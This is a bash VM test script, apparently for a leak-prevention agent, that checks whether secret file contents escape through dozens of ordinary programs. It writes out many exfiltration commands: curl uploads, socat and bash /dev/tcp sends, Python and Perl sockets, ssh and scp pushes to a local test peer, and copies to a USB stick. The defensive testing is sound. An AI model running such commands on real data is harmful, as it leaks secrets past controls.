#!/bin/bash
# Owns: real programs, allowed to read, which then try to bring the content out. No rule knows
# their names. Each does so with an unlabelled file first, and then it must arrive.
# vm-needs: ext4 ext4b usb
# vm-timeout: 1200
# The places have no blanks in their names, and $ is often for a later shell.
# shellcheck disable=SC2086,SC2016,SC2317,SC2119
. tests/vm/guest/lib.sh
. tests/vm/cases/places.sh
. tests/vm/cases/agent.sh

readers=/opt/readers
peer=10.77.0.2
sink=/run/hf/sink
served=/mnt/peer # what the other host keeps

make_readers()
{
	local program

	mkdir -p $readers
	for program in cp mv dd tar rsync scp curl zip socat cat tee install busybox gzip git openssl \
		perl sqlite3 split; do
		[ -x "/usr/bin/$program" ] || [ -x "/bin/$program" ] || continue
		install -m 755 -o root -g root "$(command -v "$program")" "$readers/$program"
	done
	install -m 755 -o root -g root "$(readlink -f /usr/bin/python3)" $readers/python3
	export PYTHONHOME=/usr # the copy does not find its compiled modules by itself
	install -m 755 -o root -g root /usr/bin/vim.tiny $readers/vim
}

start_peer()
{
	netns_peer
	mkdir -p $served
	in_peer peer1 socat -u TCP-LISTEN:9000,fork,reuseaddr OPEN:$sink,creat,append &
	in_peer peer1 socat -u UDP-RECV:9000 OPEN:$sink,creat,append &
	in_peer peer1 /usr/bin/python3 tests/vm/cases/http_sink.py 8000 $sink &
	start_sshd
	wait_for 20 in_peer peer1 sh -c 'ss -ltn | grep -q :8000'
	wait_for 20 in_peer peer1 sh -c 'ss -ltn | grep -q :9000'
}

start_sshd()
{
	mkdir -p /run/sshd /run/hf/ssh
	ssh-keygen -q -t ed25519 -N '' -f /run/hf/ssh/host
	ssh-keygen -q -t ed25519 -N '' -f /run/hf/ssh/key
	cp /run/hf/ssh/key.pub /run/hf/ssh/authorized
	in_peer peer1 /usr/sbin/sshd -f /dev/null -h /run/hf/ssh/host -o UsePAM=no \
		-o StrictModes=no -o AuthorizedKeysFile=/run/hf/ssh/authorized \
		-o PermitRootLogin=yes -o 'Subsystem=sftp internal-sftp' \
		-o PidFile=/run/hf/ssh/pid
	ssh="ssh -i /run/hf/ssh/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
	export ssh
	wait_for 20 in_peer peer1 sh -c 'ss -ltn | grep -q :22'
}

# arrived TEXT: anywhere the programs of this case could have put it.
arrived()
{
	sync
	grep -arqF "$1" $usb $served $sink 2>/dev/null
}

clear_all()
{
	rm -rf ${usb:?}/* ${served:?}/*
	: >$sink
}

# leak NAME COMMAND: the shell gets $doc, the document, and whatever else is exported here.
leak()
{
	local name=$1 command=$2

	clear_all
	doc=$open/doc.txt timeout 60 bash -c "$command" >/dev/null 2>&1
	if ! wait_for 15 arrived "$open_text"; then
		not_ok "$name" 'the positive control did not arrive'
		return
	fi
	clear_all
	window_open
	doc=$secret/doc.txt timeout 30 bash -c "$command" >/dev/null 2>&1
	window_close "$name"
	if arrived "$secret_text"; then
		not_ok "$name" 'the content got out'
		windows_forget "$name"
	else
		ok "$name"
	fi
}

to_the_stick()
{
	leak cp "$readers/cp \$doc $usb/x"
	leak 'cp --sparse' "$readers/cp --sparse=always --reflink=never \$doc $usb/x"
	leak mv "cp \$doc $work/x || $readers/cp \$doc $work/x; $readers/mv $work/x $usb/x"
	leak dd "$readers/dd if=\$doc of=$usb/x"
	leak 'dd oflag=direct' "$readers/dd if=\$doc of=$usb/x bs=512 conv=sync oflag=direct"
	leak tar "$readers/tar -cf $usb/x.tar \$doc"
	leak 'tar through a pipe' "$readers/tar -c \$doc | dd of=$usb/x"
	leak rsync "$readers/rsync \$doc $usb/x"
	leak zip "$readers/zip -q -0 $usb/x.zip \$doc"
	leak install "$readers/install -m 644 \$doc $usb/x"
	leak 'cat and the shell' "$readers/cat \$doc >$usb/x"
	leak 'cat through tee' "$readers/cat \$doc | tee $usb/x"
	leak 'cat through a fifo' \
		"rm -f $work/f; mkfifo $work/f; cat $work/f >$usb/x & $readers/cat \$doc >$work/f; wait"
	leak 'cat by a command substitution' "text=\$($readers/cat \$doc); echo \"\$text\" >$usb/x"
	leak 'cat and a here-string' "text=\$($readers/cat \$doc); cat <<<\"\$text\" >$usb/x"
	leak busybox "$readers/busybox cp \$doc $usb/x"
	leak gzip "$readers/gzip -1 -c \$doc | gzip -d >$usb/x"
	leak socat "$readers/socat -u OPEN:\$doc CREATE:$usb/x"
	leak split "$readers/split -b 1000 \$doc $usb/x"
	leak perl "$readers/perl -pe 1 \$doc >$usb/x"
	leak 'vim :w' "$readers/vim -u NONE -i NONE -N -es -c 'w! $usb/x' -c q! \$doc"
	leak 'vim :saveas' "$readers/vim -u NONE -i NONE -N -es -c 'saveas! $usb/x' -c q! \$doc"
	leak 'vim :w !command' "$readers/vim -u NONE -i NONE -N -es -c 'w !cat >$usb/x' -c q! \$doc"
	leak 'vim backup directory' \
		"$readers/cp \$doc $work/v; $readers/vim -u NONE -i NONE -N -es -c 'set backup backupdir=$usb' -c '\$s/\$/1/' -c wq $work/v; rm -f $work/v*"
	leak python "$readers/python3 -c 'import os,sys; open(sys.argv[2],\"wb\").write(open(sys.argv[1],\"rb\").read())' \$doc $usb/x"
	leak 'python shutil' "$readers/python3 -c 'import shutil,sys; shutil.copy(*sys.argv[1:])' \$doc $usb/x"
	leak 'python file opened before' \
		"$readers/python3 -c 'import sys; o=open(sys.argv[2],\"wb\"); o.write(open(sys.argv[1],\"rb\").read())' \$doc $usb/x"
	leak 'python mmap' \
		"$readers/python3 -c 'import mmap,sys; o=open(sys.argv[2],\"w+b\"); o.truncate(4096); m=mmap.mmap(o.fileno(),4096); d=open(sys.argv[1],\"rb\").read(); m[:len(d)]=d; m.flush()' \$doc $usb/x"
	leak 'python subprocess' \
		"$readers/python3 -c 'import subprocess,sys; subprocess.run([\"tee\",sys.argv[2]],input=open(sys.argv[1],\"rb\").read())' \$doc $usb/x"
	leak 'python base64 name' \
		"$readers/python3 -c 'import os,sys; os.mkdir(sys.argv[2]+open(sys.argv[1]).read().splitlines()[0]); open(sys.argv[2]+\"n\",\"w\").write(os.listdir(os.path.dirname(sys.argv[2]))[0])' \$doc $usb/x"
	leak 'a copy first, then out' "$readers/cp \$doc $work/y; cat $work/y >$usb/x || $readers/cat $work/y >$usb/x; rm -f $work/y"
	leak 'a copy on another disk first' "$readers/cp \$doc /mnt/other/y; cp /mnt/other/y $usb/x; rm -f /mnt/other/y"
	leak 'a copy in /tmp first' "$readers/cp \$doc /tmp/y; cp /tmp/y $usb/x; rm -f /tmp/y"
	leak sqlite "rm -f $work/d; $readers/sqlite3 :memory: \"select writefile('$usb/x', readfile('\$doc'))\""
	leak 'git push to the stick' \
		"rm -rf $work/g; git init -q $work/g; git init -q --bare $usb/g.git; cd $work/g; git config core.looseCompression 0; git config pack.compression 0; $readers/cp \$doc .; $readers/git add .; $readers/git -c user.name=a -c user.email=a@b commit -qm a; $readers/git push -q $usb/g.git HEAD:main; git --git-dir=$usb/g.git show main:doc.txt >$usb/x"
}

to_the_network()
{
	leak curl "$readers/curl -s -m 10 -T \$doc http://$peer:8000/x"
	leak 'curl POST' "$readers/curl -s -m 10 --data-binary @\$doc http://$peer:8000/x"
	leak 'curl from a pipe' "$readers/cat \$doc | curl -s -m 10 -T - http://$peer:8000/x"
	leak 'curl in the address' "curl -s -m 10 \"http://$peer:8000/\$($readers/cat \$doc)\""
	leak 'socat TCP' "$readers/socat -u OPEN:\$doc TCP:$peer:9000"
	leak 'socat UDP' "$readers/socat -u OPEN:\$doc UDP:$peer:9000"
	leak 'socat from a pipe' "$readers/cat \$doc | socat -u - TCP:$peer:9000"
	leak 'bash /dev/tcp' "$readers/cat \$doc >/dev/tcp/$peer/9000"
	leak 'python socket' \
		"$readers/python3 -c 'import socket,sys; d=open(sys.argv[1],\"rb\").read(); s=socket.create_connection((\"$peer\",9000)); s.sendall(d)' \$doc"
	leak 'python connected before' \
		"$readers/python3 -c 'import socket,sys; s=socket.create_connection((\"$peer\",9000)); s.sendfile(open(sys.argv[1],\"rb\"))' \$doc"
	leak 'python urllib' \
		"$readers/python3 -c 'import sys,urllib.request as u; u.urlopen(u.Request(\"http://$peer:8000/x\",data=open(sys.argv[1],\"rb\").read(),method=\"PUT\"))' \$doc"
	leak 'ssh cat' "$readers/cat \$doc | $ssh root@$peer 'cat >$served/x'"
	leak 'ssh with a redirection' "$ssh root@$peer 'cat >$served/x' < <($readers/cat \$doc)"
	leak scp "$readers/scp -q -i /run/hf/ssh/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \$doc root@$peer:$served/x"
	leak 'rsync over ssh' "$readers/rsync -e '$ssh' \$doc root@$peer:$served/x"
	leak 'tar over ssh' "$readers/tar -c \$doc | $ssh root@$peer 'cat >$served/x'"
	leak 'perl socket' \
		"$readers/perl -MIO::Socket::INET -e 'open F,\"<\",shift; \$s=IO::Socket::INET->new(\"$peer:9000\") or exit 1; print \$s <F>' \$doc"
}

# What the policy lets through goes through: the partner's address. As the partner is of this same
# machine here, what it writes is labelled, and nobody else reads it.
allowed_roads()
{
	in_peer peer2 socat -u TCP-LISTEN:9000,fork,reuseaddr OPEN:$served/partner,creat,append &
	wait_for 20 in_peer peer2 sh -c 'ss -ltn | grep -q :9000'
	clear_all
	timeout 20 $readers/socat -u OPEN:$secret/doc.txt TCP:10.88.0.2:9000 >/dev/null 2>&1
	check 'the partner gets it' wait_for 5 [ -s $served/partner ]
	refute 'and what it writes is labelled' cat $served/partner
}

places_make || { echo 'the places could not be made'; exit 1; }
mount_disk ext4b /mnt/other
make_readers
start_peer
agent_start || { echo 'the agent does not start'; exit 1; }
to_the_stick
to_the_network
allowed_roads
expect_each_recorded
agent_stop
finish
